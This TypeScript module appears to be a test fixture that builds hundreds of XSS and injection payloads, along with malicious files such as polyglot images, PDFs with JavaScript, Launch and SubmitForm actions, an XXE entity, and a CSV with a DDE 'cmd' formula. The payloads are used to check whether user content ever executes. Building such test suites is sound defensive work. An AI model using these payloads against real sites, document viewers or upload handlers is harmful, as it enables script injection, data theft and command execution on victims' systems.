// Three hundred and more ways of slipping a script into what a person writes or sends, of our own making. Each calls `__ran(n)` with its
// own number, or asks something of a host that does not belong here. Texts first, then whole files.
import { pages, after, pngOf, tone } from "./papers.ts"

export interface TextPayload {
  readonly n: number
  readonly text: string
}
export interface FilePayload {
  readonly n: number
  readonly name: string
  readonly bytes: Buffer
}

type Vector = (run: string, away: string) => string

/** Markup that runs by itself wherever it becomes markup. */
const markup: readonly Vector[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg/onload=${run}//`,
  (run) => `<body onload=${run}>`,
  (run) => `<iframe onload=${run}>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>">`,
  (run) => `<iframe src="javascript:parent.${run}">`,
  (run) => `<details open ontoggle=${run}>x`,
  (run) => `<video><source onerror=${run}>`,
  (run) => `<audio src=x onerror=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<select autofocus onfocus=${run}>`,
  (run) => `<textarea autofocus onfocus=${run}>`,
  (run) => `<b tabindex=1 autofocus onfocus=${run}>x`,
  (run) => `<object data="javascript:${run}">`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<object data=x onerror=${run}>`,
  (run) => `<a href="javascript:${run}" autofocus>x</a>`,
  (run) => `<form action="javascript:${run}"><button autofocus>x`,
  (run) => `<math><mtext><img src=x onerror=${run}>`,
  (run) => `<math href="javascript:${run}">x`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<svg><style><img src=x onerror=${run}></style>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><set onbegin=${run} attributeName=x>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><script href="data:text/javascript,${run}"/></svg>`,
  (run) => `<svg><foreignObject><body onload=${run}></foreignObject></svg>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  (run) => `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=${run}>`,
  (run) => `<b style="transition:all 1s" ontransitionrun=${run} autofocus>`,
  (run) => `<link rel=stylesheet href="data:text/css,*{}" onload=${run}>`,
  (run) => `<style onload=${run}></style>`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<base href="javascript:${run}//">`,
  (run) => `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  (run) => `<img src=x:x onerror\t=\t${run}>`,
  (run) => `<img src=x onerror\n=\n"${run}">`,
  (run) => `<IMG SRC=x OnErRoR=${run}>`,
  (run) => `<img/src=x/onerror=${run}>`,
  (run) => `<<img src=x onerror=${run}//<`,
  (run) => `<img src="x\`\`" onerror=${run}>`,
  (run) => `<p id=__ran onpointerenter=${run} style="position:fixed;inset:0">x`,
  (run) => `<marquee onstart=${run}>x`,
  (run) => `<x contenteditable autofocus onfocus=${run}>x`,
  (run) => `<button popovertarget=p>x</button><p id=p popover onbeforetoggle=${run}>`,
  (run) => `<img srcset="x 1x" onerror=${run}>`,
  (run) => `<picture><source srcset=x><img onerror=${run} src=x></picture>`,
  (run) => `<track default src=x onerror=${run}>`,
  (run) => `<image src=x onerror=${run}>`,
  (run) => `<portal src="javascript:${run}">`,
  (run) => `<script type=module>${run}</script>`,
  (run) => `<script type=text/babel>${run}</script><script>${run}</script>`,
  (_, away) => `<script src=${away}></script>`,
  (_, away) => `<img src=${away}>`,
  (_, away) => `<link rel=preconnect href=${away}><link rel=prefetch href=${away}>`,
  (_, away) => `<iframe src=${away}></iframe>`,
]

/** What closes the place that a text might stand in. */
const breakouts = [
  '"',
  "'",
  "`",
  '">',
  "'>",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "-->",
  "]]>",
  "</template>",
  "</svg>",
  "</math>",
  "?>",
  '"}];',
  '\\"',
]
const inside: readonly Vector[] = [
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<script>${run}</script>`,
  (run) => ` autofocus onfocus=${run} x=`,
  (run) => `;${run};//`,
  (run) => ` onmouseover=${run} style=position:fixed;inset:0 `,
  (run) => `-${run}-`,
]

const addresses: readonly Vector[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `java\nscript:${run}`,
  (run) => ` javascript:${run}`,
  (run) => `\u0001javascript:${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `&#106;avascript:${run}`,
  (run) => `javascript://%0a${run}`,
  (run) => `javascript:/*--></title></style></textarea></script><svg/onload=${run}>*/${run}`,
  (run) => `data:text/html,<script>parent.${run}</script>`,
  (run) => `data:text/html;base64,${Buffer.from(`<script>parent.${run}</script>`).toString("base64")}`,
  (run) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  (run) => `vbscript:${run}`,
  (run) => `view-source:javascript:${run}`,
  (run) => `blob:null/${run}`,
  (run) => `feed:javascript:${run}`,
  (run) => `mailto:x@example.org?body=<script>${run}</script>`,
  (_, away) => away,
  (_, away) => away.replace("http:", ""),
  (_, away) => `[x](${away})![x](${away})`,
  (run) => `[x](javascript:${run})`,
]

const disguised: readonly Vector[] = [
  (run) => `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  (run) => `\ufe64img src=x onerror=${run}\ufe65`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `%253Cimg src=x onerror=${run}%253E`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `&#60;img src=x onerror=${run}&#62;`,
  (run) => `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  (run) => `\\x3cscript\\x3e${run}`,
  (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  (run) => `<scr\u200bipt>${run}</scr\u200bipt>`,
  (run) => `<scr\u00adipt>${run}</script>`,
  (run) => `<\u017fcript>${run}</\u017fcript>`,
  (run) => `\u202e>tpircs/<${run}>tpircs<`,
  (run) => `x\u2028${run}\u2029`,
  (run) => `<img src=x onerror=\u0085${run}>`,
  (run) => `\u00bcscript\u00be${run}\u00bc/script\u00be`,
  (run) => `<!--><img src=x onerror=${run}>-->`,
  (run) => `<![CDATA[<img src=x onerror=${run}>]]>`,
  (run) => `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
]

const templated: readonly Vector[] = [
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `{{$on.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
  (run) => `#{${run}}`,
  (run) => `<%= ${run} %>`,
  (run) => `{%print(${run})%}`,
  (run) => `[[\${${run}}]]`,
  (run) => `@{${run}}`,
  (run) => `{{=${run}}}`,
  (run) => `{${run}}`,
  (run) => `\`\${${run}}\``,
  (run) => `v-html="'<img src=x onerror=${run}>'"`,
  (run) => `ng-init="${run}"`,
  (run) => `x-init="${run}"`,
  (run) => `hx-on:load="${run}"`,
  (run) => `$&${run}$\`$'`,
]

const json: readonly Vector[] = [
  (run) => `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}`,
  (run) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
  (run) => `{"type":"img","props":{"src":"x","onError":"${run}"},"__v":1}`,
  (run) => `{"constructor":{"prototype":{"onerror":"${run}"}}}`,
  (run) => `","text":"<script>${run}</script>`,
  (run) => `"}</script><script>${run}</script>`,
  (run) => `\\"};${run};//`,
  (run) => `{"toString":"${run}","valueOf":"${run}"}`,
  (run) => `)]}',\n${run}`,
  (run) => `callback(${run})`,
]

const styles: readonly Vector[] = [
  (run) => `x:expression(${run})`,
  (run) => `background:url(javascript:${run})`,
  (run) => `behavior:url(#default#time2) ${run}`,
  (run) => `}</style><img src=x onerror=${run}>{`,
  (_, away) => `background:url(${away})`,
  (_, away) => `@import url(${away});`,
  (_, away) => `}@font-face{font-family:x;src:url(${away})}*{font-family:x}`,
  (_, away) => `";background-image:url(${away});x:"`,
  (run) => `<b style="-moz-binding:url(data:text/xml,${run})">`,
  (_, away) => `<b style="background:url(${away})">x`,
]

const vectors: readonly Vector[] = [
  ...markup,
  ...breakouts.flatMap((breakout) =>
    inside.map(
      (vector): Vector =>
        (run, away) =>
          `${breakout}${vector(run, away)}`,
    ),
  ),
  ...addresses,
  ...disguised,
  ...templated,
  ...json,
  ...styles,
]

/** All texts, each with its number; `away` is a host that must never be asked for anything. */
export const textPayloads = (away: string): readonly TextPayload[] =>
  vectors.map((vector, n) => ({ n, text: vector(`__ran(${n})`, `${away}/${n}`) }))

const magic: Readonly<Record<string, Buffer>> = {
  "gif.gif": Buffer.from("GIF89a/*", "latin1"),
  "jpeg.jpg": Buffer.from("ffd8ffe000104a46494600010100000100010000", "hex"),
  "png.png": Buffer.from("89504e470d0a1a0a", "hex"),
  "webp.webp": Buffer.from("RIFF\u0000\u0000\u0000\u0000WEBPVP8 ", "latin1"),
  "heic.heic": Buffer.from("\u0000\u0000\u0000\u0018ftypheic", "latin1"),
  "film.mp4": Buffer.from("\u0000\u0000\u0000\u0018ftypisom", "latin1"),
  "film.webm": Buffer.from("1a45dfa3", "hex"),
  "voice.ogg": Buffer.from("OggS", "latin1"),
  "voice.mp3": Buffer.from("ID3", "latin1"),
  "paper.pdf": Buffer.from("%PDF-1.7\n", "latin1"),
  "old.bmp": Buffer.from("BM", "latin1"),
  "archive.zip": Buffer.from("504b0304", "hex"),
}

type Make = (run: string, away: string) => readonly [name: string, bytes: Buffer]
const text =
  (name: string, vector: Vector): Make =>
  (run, away) => [name, Buffer.from(vector(run, away))]
const page: Vector = (run) => `<!doctype html><html><body onload=${run}><script>${run}</script></body></html>`
const drawing: Vector = (run, away) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${run}"><script>${run}</script><image href="${away}"/></svg>`

/** A PDF whose catalog, page or further objects hold an action. */
const pdf =
  (
    name: string,
    make: (run: string, away: string) => { readonly catalog?: string; readonly page?: string; readonly objects?: readonly string[] },
  ): Make =>
  (run, away) => [`${name}.pdf`, pages(["Paper"], make(run.replace(/[()\\]/g, "\\$&"), away))]
const action = (run: string): string => `<< /S /JavaScript /JS (app.alert\\(1\\); ${run}) >>`
const more = after(1)

const files: readonly Make[] = [
  ...["html", "htm", "xhtml", "shtml", "hta", "png", "jpg", "pdf", "mp4", "txt", "doc", "heic"].map((ending) =>
    text(`page.${ending}`, page),
  ),
  ...["svg", "svgz", "png", "xml", "jpg"].map((ending) => text(`drawing.${ending}`, drawing)),
  ...Object.entries(magic).map(
    ([name, head]): Make =>
      (run) => [name, Buffer.concat([head, Buffer.from(`*/=1;${run}//<script>${run}</script><img src=x onerror=${run}>`)])],
  ),
  (run) => ["wide.html", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(page(run, ""), "utf16le")])],
  (run) => ["seven.html", Buffer.from(`<meta charset=utf-7>+ADw-script+AD4-${run}+ADw-/script+AD4-`)],
  text(
    "style.xml",
    (run) =>
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,<x/>"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  ),
  text("entities.xml", (_, away) => `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${away}">]><x>&e;</x>`),
  text("mail.eml", (run) => `Content-Type: text/html\n\n<script>${run}</script>`),
  text(
    "web.mhtml",
    (run) => `MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n<script>${run}</script>`,
  ),
  text("code.js", (run) => run),
  text("code.mjs", (run) => `${run};export default 1`),
  text("data.json", (run) => `{"__proto__":{"x":"<script>${run}</script>"}}`),
  text("sheet.csv", (run) => `=HYPERLINK("javascript:${run}"),+cmd|' /C calc'!A0`),
  text("list.m3u8", (_, away) => `#EXTM3U\n#EXTINF:1,\n${away}\n`),
  text("words.vtt", (run) => `WEBVTT\n\n00:00.000 --> 00:09.000\n<img src=x onerror=${run}>`),
  text("shortcut.url", (run) => `[InternetShortcut]\nURL=javascript:${run}`),
  text("read.md", (run) => `[x](javascript:${run}) <img src=x onerror=${run}>`),
  text("style.css", (_, away) => `@import url(${away});`),
  (run) => ["noted.png", Buffer.concat([pngOf(4, 4).subarray(0, 33), Buffer.from(`<script>${run}</script>`), pngOf(4, 4).subarray(33)])],
  (run) => ["behind.png", Buffer.concat([pngOf(4, 4), Buffer.from(`<script>${run}</script>`)])],
  (run) => ["behind.wav", Buffer.concat([tone(), Buffer.from(`<script>${run}</script>`)])],
  (run) => ["behind.pdf", Buffer.concat([pages(["Paper"]), Buffer.from(`<script>${run}</script>`)])],
  (run) => ["before.pdf", Buffer.concat([Buffer.from(`<script>${run}</script>\n`), pages(["Paper"])])],
  (run) => ["code.wasm", Buffer.concat([Buffer.from("0061736d01000000", "hex"), Buffer.from(run)])],
  pdf("opens", (run) => ({ catalog: `/OpenAction ${action(run)}` })),
  pdf("closes", (run) => ({ catalog: `/AA << /WC ${action(run)} /WS ${action(run)} /DP ${action(run)} >>` })),
  pdf("names", (run) => ({ catalog: `/Names << /JavaScript << /Names [(a) ${action(run)}] >> >>` })),
  pdf("turned", (run) => ({ page: `/AA << /O ${action(run)} /C ${action(run)} >>` })),
  pdf("linked", (run) => ({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A ${action(run)} >>]` })),
  pdf("addressed", (run) => ({
    page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (javascript:${run}) >> >>]`,
  })),
  pdf("launched", (_, away) => ({ catalog: `/OpenAction << /S /Launch /F (${away}) >>` })),
  pdf("elsewhere", (_, away) => ({ catalog: `/OpenAction << /S /GoToR /F << /FS /URL /F (${away}) >> /D [0 /Fit] >>` })),
  pdf("sending", (_, away) => ({ catalog: `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${away}) >> >>` })),
  pdf("addressing", (_, away) => ({ catalog: `/OpenAction << /S /URI /URI (${away}) >> /URI << /Base (${away}) >>` })),
  pdf("form", (run) => ({
    catalog: `/AcroForm << /Fields [${more} 0 R] /NeedAppearances true /CO [${more} 0 R] >>`,
    page: `/Annots [${more} 0 R]`,
    objects: [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (x) /Rect [0 0 300 200] /AA << /C ${action(run)} /K ${action(run)} /F ${action(run)} /Fo ${action(run)} >> >>`,
    ],
  })),
  pdf("xfa", (run) => ({
    catalog: `/AcroForm << /XFA (<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">${run}</script></event></subform></template></xdp:xdp>) /Fields [] >>`,
  })),
  pdf("rich", (run) => ({
    page: `/Annots [<< /Type /Annot /Subtype /FreeText /Rect [0 0 300 200] /Contents (<img src=x onerror=${run}>) /RC (<body xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></body>) >>]`,
  })),
  pdf("carrying", (run) => ({
    catalog: `/Names << /EmbeddedFiles << /Names [(x.html) << /Type /Filespec /F (x.html) /EF << /F ${more} 0 R >> >>] >> >>`,
    objects: [`<< /Type /EmbeddedFile /Subtype /text#2Fhtml /Length ${run.length} >>\nstream\n${run}\nendstream`],
  })),
  pdf("described", (run) => ({
    catalog: `/Metadata ${more} 0 R`,
    objects: [
      `<< /Type /Metadata /Subtype /XML /Length 60 >>\nstream\n<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>\nendstream`,
    ],
  })),
  pdf("layered", (run) => ({
    catalog: `/OCProperties << /OCGs [] /D << /Name (<img src=x onerror=${run}>) >> >> /PageLabels << /Nums [0 << /P (<script>${run}</script>) >>] >>`,
  })),
  // A font whose matrix is text: parsers that write programs for glyphs have run it.
  (run) => [
    "font.pdf",
    pages(["Paper"], {
      objects: [`<< /Type /Font /Subtype /Type1 /BaseFont /X /FontMatrix [1 0 0 1 0 (0\\); ${run.replace(/[()]/g, "\\$&")}; //)] >>`],
    }),
  ],
  (run) => [
    "glyph.pdf",
    pages(["Paper"], {
      page: `/Resources << /Font << /F1 ${more} 0 R >> >>`,
      objects: [
        `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [.1 0 0 .1 0 (0\\);${run.replace(/[()]/g, "\\$&")}//)] /CharProcs << >> /Encoding << /Differences [80 /P] >> /FirstChar 80 /LastChar 80 /Widths [9] >>`,
      ],
    }),
  ],
]

/** All files; numbers go on after those of the texts. */
export const filePayloads = (away: string): readonly FilePayload[] =>
  files.map((make, at) => {
    const n = vectors.length + at
    const [name, bytes] = make(`__ran(${n})`, `${away}/${n}`)
    return { n, name, bytes }
  })
